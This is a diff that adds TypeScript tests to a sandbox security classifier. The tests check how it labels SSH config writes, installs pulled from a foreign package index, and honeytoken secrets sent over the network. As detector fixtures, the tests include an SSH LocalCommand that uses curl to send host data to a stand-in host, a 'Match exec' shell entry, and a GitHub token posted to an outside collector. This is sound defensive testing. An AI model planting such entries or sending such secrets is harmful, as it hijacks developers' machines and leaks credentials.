@@ -96,6 +96,83 @@ describe('effects of what the sandbox saw', () => {
     ]);
   });
 
+  it('judges SSH’s configuration by its entries: a plain host alias is an ordinary write, a command it runs is developer tools', () => {
+    const before = 'Host old\n  HostName old.example.com\n';
+    const write = ['200 openat(AT_FDCWD</x>, "/home/dev/.ssh/config", O_WRONLY|O_CREAT|O_APPEND, 0666) = 3</home/dev/.ssh/config>'];
+    const written = (text: string) => ({
+      written: new Map([['/home/dev/.ssh/config', Buffer.from(before + text)]]),
+      seeded: new Map([['/home/dev/.ssh/config', before]]),
+    });
+    const alias = observedEffects(pass(write, written('Host staging\n  HostName staging.example.com\n  User deploy\n  IdentityFile ~/.ssh/id_ed25519\n')));
+    expect(alias.writes.map((w) => [w.class, w.row, w.target])).toEqual([['elsewhere', undefined, '~/.ssh/config']]);
+    const runs = observedEffects(
+      pass(write, written('Host *\n  PermitLocalCommand=yes\n  LocalCommand curl -d h=%h https://x.example/c\nMatch exec "sh -c id"\n  User x\n')),
+    );
+    expect(runs.writes.map((w) => [w.class, w.row, w.target])).toEqual([
+      ['developer-tools', 'ssh-config-runs', '~/.ssh/config: host.*.permitlocalcommand'],
+      ['developer-tools', 'ssh-config-runs', '~/.ssh/config: host.*.localcommand'],
+      ['developer-tools', 'ssh-config-runs', '~/.ssh/config: match.exec'],
+    ]);
+    const forwards = observedEffects(pass(write, written('Host build\n  ForwardAgent yes\n')));
+    expect(forwards.writes.map((w) => w.row)).toEqual(['ssh-config-forwards']);
+    // A write whose final content the run did not hand back is judged by its path.
+    expect(observedEffects(pass(write)).writes.map((w) => [w.class, w.row])).toEqual([['developer-tools', 'ssh-config']]);
+  });
+
+  it('says an install fetched from a foreign index when a process under it connected to a host no registry row knows', () => {
+    const tcp = (address: string, host: string): SinkRecord => ({
+      type: 'tcp',
+      step: 0,
+      address,
+      port: 443,
+      host,
+      protocol: 'tls',
+      sni: host,
+      http: { method: 'GET', host, path: '/simple/x/' },
+      bytes: new Uint8Array(),
+      size: 100,
+      canary: 'n0-1',
+    });
+    const effects = observedEffects(
+      pass(
+        [
+          '200 execve("/usr/bin/python3", ["python3", "-m", "pip", "install", "-r", "requirements.txt"], 0x1 /* 5 vars */) = 0',
+          '200 connect(3<socket:[1]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("198.18.0.3")}, 16) = 0',
+          '200 connect(4<socket:[2]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("198.18.0.4")}, 16) = 0',
+        ],
+        { sink: [tcp('198.18.0.3', 'pypi.org'), tcp('198.18.0.4', 'pkgs.example.net')] },
+      ),
+    );
+    expect(effects.executes.filter((e) => e.class === 'foreign-index').map((e) => [e.target, 'event' in e.evidence ? e.evidence.event : ''])).toEqual([
+      ['pkgs.example.net', 'connect to pkgs.example.net (198.18.0.4:443) under python3 -m pip install'],
+    ]);
+  });
+
+  it('takes a secret presented to its own service in the header that authenticates as used, and anything else as sent', () => {
+    const ghToken: Honeytoken = { ...envToken, audience: ['github.com'] };
+    const request = (host: string, headers: string, body = '') =>
+      ({
+        type: 'tcp',
+        step: 0,
+        address: '198.18.0.3',
+        port: 443,
+        host,
+        protocol: 'tls',
+        sni: host,
+        http: { method: 'POST', host, path: '/x' },
+        bytes: Buffer.from(`POST /x HTTP/1.1\r\nHost: ${host}\r\n${headers}\r\n\r\n${body}`),
+        size: 200,
+        canary: 'n0-1',
+      }) satisfies SinkRecord;
+    const sent = (record: SinkRecord) =>
+      observedEffects(pass([], { sink: [record], tokens: [ghToken] })).network.flatMap((n) => n.sent?.honeytokens.map((h) => h.token) ?? []);
+    expect(sent(request('api.github.com', `Authorization: Bearer ghp_${ghToken.value}`))).toEqual([]);
+    expect(sent(request('api.github.com', 'Authorization: Bearer x', JSON.stringify({ files: { t: { content: ghToken.value } } })))).toEqual([
+      'env:GITHUB_TOKEN',
+    ]);
+    expect(sent(request('collect.example.org', `Authorization: Bearer ghp_${ghToken.value}`))).toEqual(['env:GITHUB_TOKEN']);
+  });
+
   it('says downloaded content ran when the canary of a sink’s answer is executed, naming the download', () => {
     const sink: SinkRecord[] = [
       {
@@ -116,6 +193,12 @@ describe('effects of what the sandbox saw', () => {
     );
     expect(effects.executes.map((e) => [e.class, e.target])).toEqual([['downloaded-content', 'x.example/i.sh']]);
     expect(effects.network.map((n) => [n.class, n.host, n.protocol, n.sent?.honeytokens])).toEqual([['host', 'x.example', 'http', []]]);
+    // A tool's installer from its vendor's own host and path is that tool installed, as the static reading holds.
+    const vendor = [{ ...sink[0]!, http: { method: 'GET', host: 'sh.rustup.rs', path: '/' } }] as SinkRecord[];
+    const installed = observedEffects(
+      pass(['200 execve("/skillpress-canary/n0-1", ["/skillpress-canary/n0-1"], 0x1 /* 5 vars */) = -1 ENOENT (No such file or directory)'], { sink: vendor }),
+    );
+    expect(installed.executes.map((e) => [e.class, e.target])).toEqual([['package-install', 'sh.rustup.rs/']]);
   });
 
   it('finds honeytokens in bytes sent, and a secret variable in a command line as a read of it', () => {
